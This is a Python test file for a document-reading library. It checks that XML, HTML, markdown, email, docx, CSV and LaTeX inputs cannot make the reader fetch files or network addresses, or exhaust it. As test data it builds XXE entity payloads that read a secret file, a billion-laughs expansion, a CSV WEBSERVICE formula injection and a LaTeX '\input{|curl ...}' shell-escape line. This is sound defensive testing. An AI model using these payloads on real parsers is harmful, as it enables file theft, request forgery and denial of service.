"""Files that ask for other files or for the network while they are read: they get neither."""

from __future__ import annotations

import io
import zipfile

import pytest

from compound_file import write_msg
from laras.records import Document, Rejection

SECRET = "RAHASIA-DI-LUAR"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="{type}" Target="{target}"{mode}/></Relationships>'
)


def docx(document: str, relations: str = "") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as target:
        target.writestr("[Content_Types].xml", TYPES)
        root = RELATIONS.format(
            type=f"{OFFICE}/officeDocument", target="word/document.xml", mode=""
        )
        target.writestr("_rels/.rels", root)
        target.writestr("word/document.xml", document)
        if relations:
            target.writestr("word/_rels/document.xml.rels", relations)
    return stream.getvalue()


def doctypes(url: str, secret: str) -> dict[str, str]:
    """What may stand before the root of an XML file, and the text that would use it."""
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 10}">' for n in range(12)
    )
    return {
        "file": f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]>|&x;',
        "network": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/x">]>|&x;',
        "parameter": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p"> %p;]>|text',
        "external": f'<!DOCTYPE r SYSTEM "{url}/r.dtd">|text',
        "public": f'<!DOCTYPE article PUBLIC "-//X//DTD Y//EN" "{url}/y.dtd">|text',
        "laughs": f"<!DOCTYPE r [{laughs}]>|&l11;",
    }


KINDS = ["file", "network", "parameter", "external", "public", "laughs"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("suffix", ["docx", "nxml", "xml", "svg", "xhtml"])
@pytest.mark.fault(45)
def test_document_types_and_entities_reach_nothing(read, write, witness, kind, suffix):
    """External entities, parameter entities, an external document type, a billion laughs, in
    every format that is XML: refused or left unresolved; no file and no network is read, and the
    reading process lives."""
    secret = write("outside/secret.txt", SECRET)
    doctype, text = doctypes(witness.url, str(secret))[kind].split("|")
    body = {
        "docx": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        "</w:body></w:document>",
        "nxml": f"<article><front><article-meta><title-group><article-title>{text}"
        f"</article-title></title-group></article-meta></front><body><p>{text}</p></body></article>",
        "xml": f"<article><body><p>{text}</p></body></article>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{text}</text></svg>',
        "xhtml": f"<html><body><p>{text}</p></body></html>",
    }[suffix]
    page = f'<?xml version="1.0"?>{doctype}{body}'
    write(f"data/a.{suffix}", docx(page) if suffix == "docx" else page)
    write("data/z.txt", "After it.")
    for source in ("documents", "articles"):
        *records, after = read("data", source)
        assert after.text == "After it."
        assert records
        for record in records:
            assert SECRET not in str(record)
            assert "hahahaha" not in str(record)
        if suffix in ("docx", "svg"):
            assert all(isinstance(record, Rejection) for record in records)


def pages(url: str) -> dict[str, str | bytes]:
    """Files of all formats that name this address wherever they can."""
    mode = ' TargetMode="External"'
    return {
        "a.html": f'<link rel=stylesheet href="{url}/a.css"><img src="{url}/a.png">'
        f'<iframe src="{url}/a"></iframe><script src="{url}/a.js"></script>'
        f'<meta http-equiv=refresh content="0;url={url}/b"><base href="{url}/"><p>Isi.</p>'
        f'<object data="{url}/o"></object><svg><image href="{url}/s"/></svg>',
        "a.xhtml": f'<?xml-stylesheet href="{url}/x.xsl"?><html><body><p>Isi.</p></body></html>',
        "a.md": f"![x]({url}/a.png)\n\nIsi [x]({url}).\n\n<img src='{url}/b.png'>\n",
        "a.rst": f"Isi.\n\n.. image:: {url}/a.png\n\n.. include:: {url}/a.rst\n\n"
        f".. csv-table:: x\n   :url: {url}/a.csv\n\n.. raw:: html\n   :url: {url}/r\n",
        "a.adoc": f"Isi.\n\ninclude::{url}/a.adoc[]\n\nimage::{url}/a.png[Gambar]\n",
        "a.eml": "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n"
        f"--B\nContent-Type: text/html\n\n<p>Isi.</p><img src='{url}/pixel'>\n--B\n"
        f'Content-Type: message/external-body; access-type=URL; url="{url}/body"\n\n\n--B--\n',
        "a.vtt": f"WEBVTT\n\nSTYLE\n::cue {{ background: url({url}/a.png) }}\n\n"
        "00:01.000 --> 00:02.000\nIsi.\n",
        "a.csv": f'nama,isi\nsatu,"=WEBSERVICE(""{url}/c"")"\n',
        "a.docx": docx(
            f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Isi.</w:t></w:r></w:p></w:body>'
            "</w:document>",
            RELATIONS.format(type=f"{OFFICE}/attachedTemplate", target=f"{url}/t.dotm", mode=mode),
        ),
        "a.tex": "\\documentclass{article}\\begin{document}Isi. "
        f"\\input{{|curl {url}}} \\includegraphics{{{url}/a.png}}\\end{{document}}",
        "a.bib": f"@article{{a, title={{Isi}}, abstract={{Isi.}}, url={{{url}/paper}}}}",
    }


@pytest.mark.fault(45)
def test_no_address_in_a_file_is_ever_asked_for_anything(read, write, witness, tmp_path):
    """Pictures, style sheets, frames, templates, includes and bodies that lie elsewhere: the
    server that they name hears nothing, and the text beside them is read."""
    for name, content in pages(witness.url).items():
        write(f"data/{name}", content)
    page = f"<p>Isi.</p><img src='{witness.url}/pixel'>"
    write_msg(tmp_path / "data" / "a.msg", {0x001A: "IPM.Note", 0x0037: "x", 0x1013: page})
    for source in ("documents", "articles"):
        records = read("data", source)
        read_names = {r.path.rsplit("/", 1)[-1] for r in records if isinstance(r, Document)}
        assert {*pages(witness.url), "a.msg"} - read_names <= {"a.bib", "a.tex"}
    assert not witness.asked
